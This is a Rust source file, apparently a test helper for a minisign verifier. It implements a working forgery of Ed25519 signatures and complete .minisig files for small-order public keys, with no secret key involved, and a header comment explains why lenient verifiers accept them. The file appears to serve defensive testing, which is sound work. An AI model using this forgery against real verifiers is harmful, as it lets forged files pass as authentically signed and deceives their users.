//! The reviewer's attack (issue 26), as code: a minisign signature for a
//! public key of small order, made with no secret key at all.
//!
//! WHY it works on a lenient verifier: Ed25519 checks `[S]B = R + [k]A`
//! with `k = SHA-512(R ‖ A ‖ M)`. When `A` has order `n` ∈ {1, 2, 4, 8},
//! `[k]A` is one of `n` points, fixed by `k mod n`. So pick `S = s`, guess
//! `j`, set `R = [s]B − [j]A`, and keep the guess when `[k]A = [j]A`: about
//! one try in `n` succeeds, for any message. With `s = 0`, `R` is itself a
//! point of small order (for the order-2 key: the identity or `A`).

#![allow(dead_code)]

use base64::Engine;
use blake2::{Blake2b512, Digest};
use curve25519_dalek::constants::ED25519_BASEPOINT_POINT as B;
use curve25519_dalek::edwards::{CompressedEdwardsY, EdwardsPoint};
use curve25519_dalek::Scalar;
use sha2::Sha512;

/// A forged Ed25519 signature (`R ‖ S`) of `message` for the key encoded as
/// `key` (which must decode to a point of small order), starting with
/// `S = s0`; `None` when the point is not of small order.
pub fn forge(key: &[u8; 32], message: &[u8], s0: u64) -> Option<[u8; 64]> {
    let a = CompressedEdwardsY(*key).decompress()?;
    if !a.is_small_order() {
        return None;
    }
    for s in s0.. {
        let sb = Scalar::from(s) * B;
        let mut ja = EdwardsPoint::default(); // [j]A, from j = 0
        for _ in 0..8 {
            let r = (sb - ja).compress();
            let h = Sha512::new().chain_update(r.as_bytes()).chain_update(key).chain_update(message).finalize();
            let k = Scalar::from_bytes_mod_order_wide(&h.into());
            if k * a == ja {
                let mut sig = [0u8; 64];
                sig[..32].copy_from_slice(r.as_bytes());
                sig[32..].copy_from_slice(Scalar::from(s).as_bytes());
                return Some(sig);
            }
            ja += a;
        }
    }
    unreachable!()
}

pub fn b64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// A public key line `RW…` for `key` with `key_id`.
pub fn key_line(key_id: &[u8; 8], key: &[u8; 32]) -> String {
    let mut bin = b"Ed".to_vec();
    bin.extend_from_slice(key_id);
    bin.extend_from_slice(key);
    b64(&bin)
}

/// A complete `.minisig` (algorithm `ED`) for `file`, forged for the
/// small-order `key`, with `comment` as its trusted comment.
pub fn forged_minisig(key_id: &[u8; 8], key: &[u8; 32], file: &[u8], comment: &str) -> Option<String> {
    let sig = forge(key, &Blake2b512::digest(file), 0)?;
    let mut line = b"ED".to_vec();
    line.extend_from_slice(key_id);
    line.extend_from_slice(&sig);
    let mut global = sig.to_vec();
    global.extend_from_slice(comment.as_bytes());
    let global = forge(key, &global, 0)?;
    Some(format!(
        "untrusted comment: forged: no secret key was used\n{}\ntrusted comment: {comment}\n{}\n",
        b64(&line),
        b64(&global)
    ))
}

/// The encoding of the `t`-th multiple (0..8) of a point of order 8: every
/// point of small order.
pub fn small_order_point(t: u8) -> [u8; 32] {
    let p8 = CompressedEdwardsY(
        *b"\x26\xe8\x95\x8f\xc2\xb2\x27\xb0\x45\xc3\xf4\x89\xf2\xef\x98\xf0\xd5\xdf\xac\x05\xd3\xc6\x33\x39\xb1\x38\x02\x88\x6d\x53\xfc\x05",
    )
    .decompress()
    .unwrap();
    (Scalar::from(u64::from(t)) * p8).compress().to_bytes()
}
